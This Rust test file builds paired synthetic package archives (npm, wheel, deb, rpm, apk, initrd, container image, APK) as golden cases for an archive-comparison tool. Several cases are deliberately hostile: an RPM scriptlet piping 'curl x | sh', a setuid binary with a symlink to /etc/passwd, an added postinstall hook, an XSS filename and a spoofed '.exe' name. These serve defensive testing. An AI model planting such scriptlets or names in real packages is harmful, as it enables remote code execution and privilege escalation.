//! The golden pairs: small archives whose whole reports are committed, native and wasm alike.

use twinspect::stabilize::Profile;

use crate::image::{image, package};
use crate::{Member, Tag, apk, ar, cpio, file, gzip, gzip_with, link, rpm, tar, zip};

/// Two artifacts, and the profile to compare them under.
pub struct GoldenPair {
    /// Name of the expected report in `tests/golden/`.
    pub name: &'static str,
    /// A: name and bytes.
    pub left: (&'static str, Vec<u8>),
    /// B: name and bytes.
    pub right: (&'static str, Vec<u8>),
    /// The profile.
    pub profile: Profile,
}

/// Every golden pair.
pub fn pairs() -> Vec<GoldenPair> {
    let mut pairs = Vec::new();
    let mut add = |name, left: (&'static str, &[u8]), right: (&'static str, &[u8]), profile| {
        pairs.push(GoldenPair { name, left: (left.0, left.1.to_vec()), right: (right.0, right.1.to_vec()), profile });
    };
    a_rebuild_with_other_metadata_is_equivalent(&mut add);
    an_added_install_script_and_an_execute_bit_stay_different(&mut add);
    two_versions_of_a_wheel_align_once(&mut add);
    a_recompressed_debian_package_is_equivalent(&mut add);
    nested_archives_are_opened_and_a_corrupt_one_stays_a_leaf(&mut add);
    moved_and_renamed_entries_are_found(&mut add);
    hostile_names_are_inert(&mut add);
    one_edit_in_many_files_is_one_statement(&mut add);
    an_initial_file_system_packed_again_is_equivalent(&mut add);
    an_rpm_package_built_again_is_equivalent(&mut add);
    an_alpine_package_with_another_script_names_it(&mut add);
    layers_of_images_are_paired_and_digests_follow(&mut add);
    a_package_signed_again_differs_in_its_signing_block(&mut add);
    pairs
}

type Add<'a> = &'a mut dyn FnMut(&'static str, (&'static str, &[u8]), (&'static str, &[u8]), Profile);

const MANIFEST: &[u8] = b"{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\"\n}\n";
const SCRIPT: &[u8] = b"module.exports = 1;\n";

fn a_rebuild_with_other_metadata_is_equivalent(add: Add<'_>) {
    let left = gzip_with(
        &tar(&[file("package/package.json", MANIFEST), file("package/index.js", SCRIPT)]),
        7,
        9,
        Some("demo.tar"),
    );
    let right = gzip(&tar(&[
        file("package/index.js", SCRIPT).mtime(99).mode(0o664),
        file("package/package.json", MANIFEST).mtime(98),
    ]));
    add("rebuild-standard", ("demo-1.0.0.tgz", &left), ("demo-1.0.0.tgz", &right), Profile::Standard);
    add("rebuild-oss-rebuild", ("demo-1.0.0.tgz", &left), ("demo-1.0.0.tgz", &right), Profile::OssRebuild);
    add("rebuild-none", ("demo-1.0.0.tgz", &left), ("demo-1.0.0.tgz", &right), Profile::None);
}

fn an_added_install_script_and_an_execute_bit_stay_different(add: Add<'_>) {
    let manifest = b"{\n  \"name\": \"demo\",\n  \"version\": \"1.0.1\",\n  \"scripts\": { \"postinstall\": \"node setup.js\" }\n}\n";
    let left = gzip(&tar(&[file("package/package.json", MANIFEST), file("package/cli.js", SCRIPT)]));
    let right = gzip(&tar(&[
        file("package/package.json", manifest),
        file("package/cli.js", SCRIPT).mode(0o755),
        file("package/setup.js", b"fetch()\n"),
    ]));
    add("install-script", ("demo-1.0.0.tgz", &left), ("demo-1.0.1.tgz", &right), Profile::Standard);
}

fn two_versions_of_a_wheel_align_once(add: Add<'_>) {
    let wheel = |version: &str, body: &[u8]| {
        let info = |name: &str| format!("demo-{version}.dist-info/{name}");
        let (meta, wheel, record) = (info("METADATA"), info("WHEEL"), info("RECORD"));
        let metadata = format!("Metadata-Version: 2.1\nName: demo\nVersion: {version}\n");
        let members: [Member<'_>; 4] = [
            file("demo/__init__.py", body),
            file(&meta, metadata.as_bytes()),
            file(&wheel, b"Wheel-Version: 1.0\nGenerator: demo\n"),
            file(&record, b"demo/__init__.py,,\n"),
        ];
        zip(&members)
    };
    let (left, right) = (wheel("1.0.0", b"__version__ = '1.0.0'\n"), wheel("1.1.0", b"__version__ = '1.1.0'\n"));
    add(
        "wheel-versions",
        ("demo-1.0.0-py3-none-any.whl", &left),
        ("demo-1.1.0-py3-none-any.whl", &right),
        Profile::Standard,
    );
}

fn a_recompressed_debian_package_is_equivalent(add: Add<'_>) {
    let control = tar(&[file("./control", b"Package: demo\nVersion: 1\n")]);
    let data = tar(&[file("./usr/bin/demo", b"#!/bin/sh\n").mode(0o755), link("./usr/bin/d", "demo")]);
    let left = ar(&[("debian-binary", b"2.0\n"), ("control.tar.gz", &gzip(&control)), ("data.tar", &data)]);
    let right = ar(&[
        ("debian-binary", b"2.0\n"),
        ("control.tar.gz", &gzip_with(&control, 5, 1, None)),
        ("data.tar.gz", &gzip(&data)),
    ]);
    add("deb-recompressed", ("demo_1_all.deb", &left), ("demo_1_all.deb", &right), Profile::Standard);
    let moved = tar(&[file("./usr/bin/demo", b"#!/bin/sh\n").mode(0o4755), link("./usr/bin/d", "/etc/passwd")]);
    let changed = ar(&[("debian-binary", b"2.0\n"), ("control.tar.gz", &gzip(&control)), ("data.tar", &moved)]);
    add("deb-setuid", ("demo_1_all.deb", &left), ("demo_1_all.deb", &changed), Profile::Standard);
}

fn nested_archives_are_opened_and_a_corrupt_one_stays_a_leaf(add: Add<'_>) {
    let inner = |body: &[u8]| zip(&[file("a.txt", b"same\n"), file("b.txt", body)]);
    let mut corrupt = inner(b"x\n");
    corrupt.truncate(corrupt.len() / 2);
    let left = tar(&[file("good.zip", &inner(b"old\n")), file("bad.zip", &inner(b"x\n")), file("z", b"1")]);
    let right = tar(&[
        file("good.zip", &inner(b"new\n")),
        file("bad.zip", &corrupt),
        file("z", b"1"),
        file("extra.zip", &inner(b"e\n")),
    ]);
    add("nested", ("a.tar", &left), ("b.tar", &right), Profile::Standard);
}

fn moved_and_renamed_entries_are_found(add: Add<'_>) {
    let long = |last: &str| (0..20).map(|line| format!("line {line}\n")).collect::<String>() + last;
    let (old, new) = (long("old\n"), long("new\n"));
    let left = tar(&[file("lib/a.js", SCRIPT), file("lib/util.js", old.as_bytes())]);
    let right = tar(&[file("src/a.js", SCRIPT), file("src/tools.js", new.as_bytes()), file("keep", b"1")]);
    add("moved", ("a.tar", &left), ("b.tar", &right), Profile::Standard);
}

fn hostile_names_are_inert(add: Add<'_>) {
    let left = tar(&[
        file("<img src=x onerror=alert(1)>", b"1"),
        file("a\u{202e}gpj.exe", b"2"),
        file("dup", b"1"),
        file("dup", b"2"),
    ]);
    let right = tar(&[
        file("<img src=x onerror=alert(1)>", b"2"),
        file("a\u{202e}gpj.exe", b"3"),
        file("dup", b"1"),
        file("dup", b"3"),
    ]);
    add("hostile-names", ("x\u{1b}[31m.tar", &left), ("y.tar", &right), Profile::Standard);
}

fn one_edit_in_many_files_is_one_statement(add: Add<'_>) {
    let side = |tool: &str| {
        let bodies: Vec<(String, String)> = (0..12)
            .map(|at| (format!("package/f{at}.js"), format!("// made by packer {tool}\nvar x{at};\n")))
            .collect();
        let members: Vec<Member<'_>> = bodies.iter().map(|(path, body)| file(path, body.as_bytes())).collect();
        gzip(&tar(&members))
    };
    add("same-edit", ("a.tgz", &side("3.1")), ("b.tgz", &side("3.2")), Profile::Standard);
}

fn an_initial_file_system_packed_again_is_equivalent(add: Add<'_>) {
    let init = file("init", b"#!/bin/sh\n").mode(0o755);
    let left = cpio(&[init.clone(), file("etc-hosts", b"::1 localhost\n"), link("sh", "busybox")], 0xb00);
    let right = cpio(
        &[link("sh", "busybox").mtime(9), file("etc-hosts", b"::1 localhost\n").mode(0o664), init.clone().mtime(9)],
        0xc00,
    );
    add("initial", ("initrd.img", &gzip(&left)), ("initrd.img", &gzip_with(&right, 5, 1, None)), Profile::Standard);
    let changed = cpio(&[init.mode(0o4755), file("etc-hosts", b"::1 localhost\n"), link("sh", "bash")], 0xb00);
    add("initial-changed", ("initrd.img", &left), ("initrd.img", &changed), Profile::Standard);
}

fn an_rpm_package_built_again_is_equivalent(add: Add<'_>) {
    let files = |time: u64, tool: &'static [u8]| {
        [file("/usr/bin/demo", tool).mode(0o755).mtime(time), link("/usr/lib/demo", "../bin/demo").mtime(time)]
    };
    let tags = |time: u32, host: &'static str, script: &'static str| {
        [
            (1006, Tag::Numbers(vec![time])),
            (1007, Tag::Text(host)),
            (1024, Tag::Text(script)),
            (1086, Tag::Text("/bin/sh")),
        ]
    };
    let left = rpm(&files(7, b"#!/bin/sh\n"), &tags(1_700_000_000, "one", "echo installed\n"), gzip);
    let right = rpm(&files(9, b"#!/bin/sh\n"), &tags(1_700_000_999, "two", "echo installed\n"), |cpio| {
        gzip_with(cpio, 5, 1, None)
    });
    add("rpm-rebuilt", ("demo-1-1.noarch.rpm", &left), ("demo-1-1.noarch.rpm", &right), Profile::Standard);
    let changed = rpm(&files(7, b"#!/bin/sh -x\n"), &tags(1_700_000_000, "one", "curl x | sh\n"), gzip);
    add("rpm-scriptlet", ("demo-1-1.noarch.rpm", &left), ("demo-1-1.noarch.rpm", &changed), Profile::Standard);
}

fn an_alpine_package_with_another_script_names_it(add: Add<'_>) {
    let package =
        |tool: &'static [u8]| apk("pkgname = demo\npkgver = 1-r0\n", &[file("usr/bin/demo", tool).mode(0o755)]);
    let (left, right) = (package(b"#!/bin/sh\n"), package(b"#!/bin/sh -x\n"));
    add("alpine", ("demo-1-r0.apk", &left), ("demo-1-r0.apk", &right), Profile::Standard);
}

fn layers_of_images_are_paired_and_digests_follow(add: Add<'_>) {
    let base = |mtime| tar(&[file("etc/motd", b"hello\n").mtime(mtime), link("bin/sh", "busybox")]);
    let top = |body: &[u8]| tar(&[file("app/run", body).mode(0o755), file("etc/.wh.motd", b"")]);
    let left = image(&[base(1), top(b"#!/bin/sh\n")], "2026-01-01T00:00:00Z");
    let right = image(&[base(2), top(b"#!/bin/sh\nexit\n")], "2026-01-01T00:00:00Z");
    add("image", ("app.tar", &left), ("app.tar", &right), Profile::Standard);
    let more = image(&[base(1), tar(&[file("new", b"1")]), top(b"#!/bin/sh\n")], "2026-01-02T00:00:00Z");
    add("image-layer", ("app.tar", &left), ("app.tar", &more), Profile::Standard);
}

fn a_package_signed_again_differs_in_its_signing_block(add: Add<'_>) {
    let members = [file("AndroidManifest.xml", b"manifest"), file("classes.dex", b"dex\n035")];
    let left = package(&members, &[(0x7109_871a, b"one"), (0x504b_4453, b"list"), (0x4272_6577, &[0; 9])]);
    let right = package(&members, &[(0x7109_871a, b"other"), (0x504b_4453, b"list"), (0x4272_6577, &[0; 7])]);
    add("signing-block", ("app.apk", &left), ("app.apk", &right), Profile::Standard);
}
